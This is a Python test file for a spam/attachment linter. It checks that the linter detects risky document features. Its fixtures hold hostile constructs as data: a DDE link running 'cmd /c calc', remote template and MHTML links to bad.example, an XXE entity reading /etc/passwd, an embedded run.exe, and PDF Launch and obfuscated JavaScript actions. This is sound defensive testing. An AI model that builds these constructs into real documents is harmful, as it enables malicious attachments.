"""What is seen inside documents."""

from __future__ import annotations

import struct

import pytest
from container_samples import OFFICE, VBA, docx_of, message_with, native, ole_of, pdf_of, relationships, zip_of

from spamlint.linter import Linter

LINTER = Linter()


def rules(data: bytes, name: str) -> set[str]:
    verdict = LINTER.check(message_with(data, name))
    assert verdict.errors == ()
    return {finding.rule for finding in verdict.findings if finding.topic in ("documents", "archives")}


def reasons(data: bytes, name: str) -> list[str]:
    return [row.reason for row in LINTER.check(message_with(data, name)).not_covered]


def biff(*records: tuple[int, bytes]) -> bytes:
    return b"".join(struct.pack("<2H", kind, len(data)) + data for kind, data in records)


@pytest.mark.parametrize("name", ["a.docm", "a.docx", "a.zip"])
def test_macros_are_seen_under_every_name(name: str) -> None:
    for path in ("word/vbaProject.bin", "word\\VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml"):
        assert "documents/macros" in rules(docx_of(extra={path: VBA}), name)


def test_macros_that_only_the_content_types_tell_of_are_seen() -> None:
    types = b'<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    assert rules(zip_of({"[Content_Types].xml": types, "word/x.bin": VBA}), "a.docx") == {"documents/macros"}


def test_macros_of_excel_4_powerpoint_and_opendocument_are_seen() -> None:
    sheet = struct.pack("<LBB", 0, 2, 1) + b"\x06\0Macro1"
    assert rules(ole_of({"Workbook": biff((0x809, bytes(16)), (0x85, sheet), (10, b""))}), "a.xls") == {
        "documents/macros"
    }
    plain = struct.pack("<LBB", 0, 0, 0) + b"\x06\0Sheet1"
    assert rules(ole_of({"Workbook": biff((0x809, bytes(16)), (0x85, plain), (10, b""))}), "a.xls") == set()
    slides = b"\x0f\0\xff\x03" + struct.pack("<L", 20) + b"\2\0\0\4\x0c\0\0\0" + struct.pack("<3L", 7, 1, 2)
    assert rules(ole_of({"PowerPoint Document": slides}), "a.ppt") == {"documents/macros"}
    assert rules(ole_of({"PowerPoint Document": slides[:20] + bytes(8)}), "a.ppt") == set()
    odt = zip_of({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": b"<x/>"})
    assert rules(odt, "a.odt") == {"documents/macros"}


def test_locked_documents_are_not_covered() -> None:
    assert reasons(ole_of({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "a.docx") == ["encrypted-document"]
    assert reasons(ole_of({"Workbook": biff((0x809, bytes(16)), (0x2F, bytes(54)))}), "a.xls") == ["encrypted-document"]
    locked = b"\xec\xa5" + bytes(8) + b"\x00\x01" + bytes(20)
    assert reasons(ole_of({"WordDocument": locked}), "a.doc") == ["encrypted-document"]
    assert reasons(ole_of({"__substg1.0_0037001F": b"x"}), "a.msg") == ["outlook-message"]
    manifest = b'<manifest:encryption-data manifest:checksum="x"/>'
    odt = zip_of({"mimetype": b"application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": manifest})
    assert reasons(odt, "a.odt") == ["encrypted-document"]
    assert reasons(pdf_of(trailer="/Encrypt << /V 1 >>"), "a.pdf") == ["encrypted-pdf"]


@pytest.mark.parametrize(
    ("kind", "target", "finds"),
    [
        ("attachedTemplate", "http://bad.example/t.dotm", True),
        ("attachedTemplate", "\\\\bad.example\\share\\t.dotm", True),
        ("attachedTemplate", "file://server/share/t.dotm", True),
        ("attachedTemplate", "file:///C:/Users/Ann/Normal.dotm", False),
        ("attachedTemplate", "Normal.dotm", False),
        ("oleObject", "mhtml:http://bad.example/x.html!x-usc:http://bad.example/x.html", True),
        ("frame", "https://bad.example/", True),
        ("hyperlink", "https://bakery.example/", False),
        ("image", "https://bakery.example/logo.png", False),
    ],
)
def test_only_what_is_fetched_on_opening_counts(kind: str, target: str, finds: bool) -> None:
    data = docx_of(extra={"word/_rels/settings.xml.rels": relationships((kind, target, True))})
    assert rules(data, "a.docx") == ({"documents/external-template"} if finds else set())


def test_wide_characters_do_not_hide_relationships() -> None:
    xml = relationships(("attachedTemplate", "http://bad.example/t", True)).decode().encode("utf-16")
    assert "documents/external-template" in rules(docx_of(extra={"word/_rels/a.rels": xml}), "a.docx")


def test_a_document_type_ends_the_reading() -> None:
    xml = (
        f'<!DOCTYPE r [<!ENTITY t SYSTEM "file:///etc/passwd">]><Relationships>'
        f'<Relationship Type="{OFFICE}/frame" Target="http://x.example/&t;" TargetMode="External"/></Relationships>'
    )
    assert rules(docx_of(extra={"word/_rels/a.rels": xml.encode()}), "a.docx") == set()


def test_links_to_other_programs_in_a_workbook_are_seen() -> None:
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    book = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>", "xl/externalLinks/externalLink1.xml": link}
    assert rules(zip_of(book), "a.xlsx") == {"documents/dde"}
    book["xl/externalLinks/externalLink1.xml"] = b"<externalLink><externalBook/></externalLink>"
    assert rules(zip_of(book), "a.xlsx") == set()


def test_documents_inside_archives_are_looked_into() -> None:
    packed = zip_of({"a.doc": ole_of({"\x01Ole10Native": native("run.exe", b"MZ")})})
    verdict = LINTER.check(message_with(packed, "a.zip"))
    (finding,) = [finding for finding in verdict.findings if finding.topic == "documents"]
    assert (finding.rule, finding.base_score, finding.severity) == ("documents/embedded-object", 40, "error")
    assert finding.say().message == "a.doc carries the packed file run.exe"


@pytest.mark.parametrize(
    ("data", "finds"),
    [
        (pdf_of(packed="<< /S /Launch /F (run.exe) >>"), {"documents/pdf-launch"}),
        (pdf_of("/AA << /O << /S /J#61vaScript /JS 4 0 R >> >>"), {"documents/pdf-javascript"}),
        (pdf_of(objects=["<< /Length 30 >>\nstream\n/S /Launch /S /JavaScript\nendstream"]), set()),
        (
            pdf_of(objects=["<< /Type /EmbeddedFile >>", "<< /UF <FEFF0061002E006A0073> >>"]),
            {"documents/pdf-embedded-file"},
        ),
        (pdf_of(), set()),
    ],
)
def test_what_a_pdf_does_is_seen(data: bytes, finds: set[str]) -> None:
    assert rules(data, "a.pdf") == finds
